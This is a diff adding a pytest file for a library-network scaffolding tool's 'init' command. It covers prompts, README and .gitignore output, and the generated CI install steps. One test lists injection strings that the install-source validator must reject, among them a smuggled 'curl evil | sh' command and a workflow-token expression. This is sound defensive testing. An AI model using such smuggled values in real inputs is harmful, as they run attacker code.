@@ -1,0 +1,164 @@
+"""`libsync init` for publishing (#15 items 7, 10, 11): what the minutes' header needs (options or
+questions), a CI install step that really installs libsync, a README that explains publishing,
+and a .gitignore that keeps built sites out of Git. Real folders, real Git, a real venv."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import git
+import pytest
+import yaml
+
+from libsync import __version__
+from libsync.scaffold import PROJECT_GIT_URL, default_libsync_source, pip_requirement
+
+PROJECT = Path(__file__).resolve().parent.parent
+
+
+def _network(root: Path) -> dict:
+    return yaml.safe_load((root / "network.yaml").read_text(encoding="utf-8"))
+
+
+def _install_steps(root: Path) -> dict[str, str]:
+    """The `run:` of the step named 'Cài libsync' of each generated workflow."""
+    out = {}
+    for path in sorted((root / ".github" / "workflows").glob("*.yml")):
+        workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
+        steps = [s for job in workflow["jobs"].values() for s in job.get("steps", []) if s.get("name") == "Cài libsync"]
+        assert len(steps) <= 1
+        if steps:
+            out[path.name] = steps[0]["run"]
+    return out
+
+
+def test_init_writes_the_minutes_header_from_options(tmp_path, cli):
+    target = tmp_path / "net"
+    r = cli("init", target, "--library", "XS=Trường THCS Xuân Sơn", "--library", "HD=Trường THCS Hưng Đạo",
+            "--authority", "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU", "--authority", "HD=UBND PHƯỜNG HƯNG ĐẠO",
+            "--place", "XS=Xuân Sơn", "--place", "HD=Hưng Đạo",
+            "--principal", "XS=Nguyễn Văn Thành", "--principal", "HD=Trần Thị Minh Hằng",
+            "--librarian", "XS=Phạm Thị Thu Hà", "--librarian", "HD=Lê Thị Hồng Nhung", "--no-ask")
+    assert r.exit_code == 0, r.output
+    libs = {lib["code"]: lib for lib in _network(target)["libraries"]}
+    assert libs["XS"]["authority"] == "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU"     # a bare value: every school …
+    assert libs["HD"]["authority"] == "UBND PHƯỜNG HƯNG ĐẠO"                 # … CODE= for one
+    assert (libs["XS"]["place"], libs["HD"]["place"]) == ("Xuân Sơn", "Hưng Đạo")
+    assert libs["HD"]["principal"] == {"name": "Trần Thị Minh Hằng", "role": "Hiệu trưởng"}
+    assert libs["XS"]["librarians"] == [{"name": "Phạm Thị Thu Hà", "role": "Nhân viên thư viện"}]
+    assert [m["name"] for m in libs["XS"]["stocktake_committee"]] == ["Nguyễn Văn Thành", "Phạm Thị Thu Hà"]
+    assert "Lưu ý" not in r.output                          # nothing left blank: no note
+    # what init writes, validate accepts
+    assert cli("--repo", target, "validate").exit_code == 0
+
+
+def test_init_names_the_fields_left_blank_and_refuses_an_ambiguous_name(tmp_path, cli):
+    r = cli("init", tmp_path / "a", "--library", "XS=Trường THCS Xuân Sơn", "--place", "Xuân Sơn", "--no-ask")
+    assert r.exit_code == 0, r.output
+    assert "libraries[XS].authority" in r.output and "libraries[XS].principal" in r.output
+    assert "libraries[XS].place" not in r.output
+    assert "authority" not in _network(tmp_path / "a")["libraries"][0]       # left out, never written blank
+    r = cli("init", tmp_path / "b", "--library", "XS=Trường A", "--library", "HD=Trường B",
+            "--principal", "Nguyễn Văn Thành", "--no-ask")
+    assert r.exit_code == 2 and "MÃ=Họ tên" in r.output and not (tmp_path / "b").exists()
+
+
+def test_init_asks_for_what_the_minutes_need(tmp_path, cli):
+    answers = "\n".join([
+        "XS=Trường THCS Xuân Sơn", "HD=Trường THCS Hưng Đạo", "",      # the schools, then an empty line
+        "Mạng thư viện Đông Triều",                                      # the network's name
+        "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU", "Xuân Sơn", "Nguyễn Văn Thành", "Phạm Thị Thu Hà",
+        "", "Hưng Đạo", "Trần Thị Minh Hằng", "",                        # HD: the same authority; no librarian yet
+    ]) + "\n"
+    r = cli("init", tmp_path / "net", "--ask", input=answers)
+    assert r.exit_code == 0, r.output
+    assert "Cơ quan chủ quản" in r.output and "Họ tên hiệu trưởng" in r.output
+    data = _network(tmp_path / "net")
+    libs = {lib["code"]: lib for lib in data["libraries"]}
+    assert data["network"]["name"] == "Mạng thư viện Đông Triều"
+    assert libs["HD"]["authority"] == "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU"     # the answer given for XS
+    assert libs["HD"]["place"] == "Hưng Đạo" and libs["HD"]["principal"]["name"] == "Trần Thị Minh Hằng"
+    assert libs["HD"]["librarians"] == [] and "libraries[HD].librarians" in r.output
+
+
+def test_readme_explains_publishing_and_gitignore_keeps_sites_out(tmp_path, cli):
+    target = tmp_path / "net"
+    assert cli("init", target, "--library", "XS=Trường A", "--no-ask").exit_code == 0
+    readme = (target / "README.md").read_text(encoding="utf-8")
+    for step in ("Settings → Pages", "GitHub Actions", "libsync share --library XS", "--share public",
+                 "libsync site serve _site --host 0.0.0.0", "--port 8080", "mã QR", "`.gitignore`"):
+        assert step in readme, step
+    (target / "_site").mkdir()
+    (target / "_site" / "index.html").write_text("x", encoding="utf-8")
+    (target / "_site-xs").mkdir()
+    (target / "_site-xs" / "index.html").write_text("x", encoding="utf-8")
+    repo = git.Repo(target)
+    assert not repo.is_dirty(untracked_files=True)          # both site folders are ignored
+    assert repo.git.check_ignore("_site/index.html", "_site-xs/index.html").split() == [
+        "_site/index.html", "_site-xs/index.html"]
+
+
+def test_the_install_source_becomes_a_pinned_requirement(tmp_path):
+    assert pip_requirement("https://github.com/so-gd/libsync@v0.2.0") == "libsync @ git+https://github.com/so-gd/libsync@v0.2.0"
+    assert pip_requirement("git+https://example.org/x/libsync@abc123") == "libsync @ git+https://example.org/x/libsync@abc123"
+    assert pip_requirement("git@github.com:so-gd/libsync.git@v1") == "libsync @ git+ssh://git@github.com/so-gd/libsync.git@v1"
+    assert pip_requirement("git+file:///srv/libsync@v1") == "libsync @ git+file://localhost/srv/libsync@v1"
+    assert pip_requirement(str(tmp_path)) == str(tmp_path.resolve())
+    assert pip_requirement("libsync==0.1.0") == "libsync==0.1.0"
+    # the editable checkout these tests run from is not a place GitHub can fetch: the project's tag
+    assert default_libsync_source() == f"{PROJECT_GIT_URL}@v{__version__}"
+    from libsync.errors import LibsyncError
+
+    for bad in ('x" ; curl evil | sh ; "', "${{ github.token }}", "a\nb", "`id`", " "):
+        with pytest.raises(LibsyncError) as caught:
+            pip_requirement(bad)
+        assert caught.value.key == "init.bad_source"
+
+
+def test_default_workflows_install_the_project_from_git_and_pass_actionlint(tmp_path, cli):
+    target = tmp_path / "net"
+    r = cli("init", target, "--library", "A1=Trường A", "--no-ask")
+    assert r.exit_code == 0
+    steps = _install_steps(target)
+    assert set(steps) == {"pages.yml", "validate.yml"}
+    expected = f'python -m pip install "libsync @ git+{PROJECT_GIT_URL}@v{__version__}"'
+    assert set(steps.values()) == {expected} and 'pip install "libsync"' not in str(steps)
+    assert expected.split("install ")[1] in r.output          # init says where CI installs from
+    actionlint = shutil.which("actionlint")
+    assert actionlint
+    files = [str(p) for p in (target / ".github" / "workflows").glob("*.yml")]
+    run = subprocess.run([actionlint, "-no-color", *files], capture_output=True, text=True)
+    assert run.returncode == 0, run.stdout + run.stderr
+
+
+def test_the_generated_install_step_installs_libsync_in_a_fresh_venv(tmp_path, cli):
+    """The workflow's own `run:` line, run as CI would (bash, `python` of a fresh venv), against a
+    Git clone of this project pinned to its commit; then `libsync --version` from that venv."""
+    clone = tmp_path / "libsync-src"
+    git.Repo.clone_from(str(PROJECT), str(clone))
+    sha = git.Repo(clone).head.commit.hexsha
+    target = tmp_path / "net"
+    r = cli("init", target, "--library", "A1=Trường A", "--no-ask", "--libsync-source", f"git+file://{clone}@{sha}")
+    assert r.exit_code == 0, r.output
+    steps = _install_steps(target)
+    assert set(steps.values()) == {f'python -m pip install "libsync @ git+file://localhost{clone}@{sha}"'}
+
+    venv = tmp_path / "venv"
+    # the venv sees this machine's packages (no downloads of libsync's dependencies), not libsync's checkout
+    subprocess.run([sys.executable, "-m", "venv", "--system-site-packages", str(venv)], check=True)
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "VIRTUAL_ENV", "PIP_"))}
+    env["PATH"] = f"{venv / 'bin'}{os.pathsep}{env.get('PATH', '')}"
+    env["PIP_DISABLE_PIP_VERSION_CHECK"] = "1"
+    run = subprocess.run(["bash", "-e", "-c", steps["pages.yml"]], cwd=target, env=env, capture_output=True,
+                         text=True, timeout=600)
+    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
+    installed = subprocess.run([str(venv / "bin" / "python"), "-c", "import libsync; print(libsync.__file__)"],
+                               cwd=tmp_path, env=env, capture_output=True, text=True)
+    assert installed.stdout.strip().startswith(str(venv)), installed.stdout + installed.stderr
+    version = subprocess.run(["libsync", "--version"], cwd=target, env=env, capture_output=True, text=True)
+    assert version.returncode == 0 and __version__ in version.stdout, version.stdout + version.stderr
+    assert shutil.which("libsync", path=env["PATH"]) == str(venv / "bin" / "libsync")
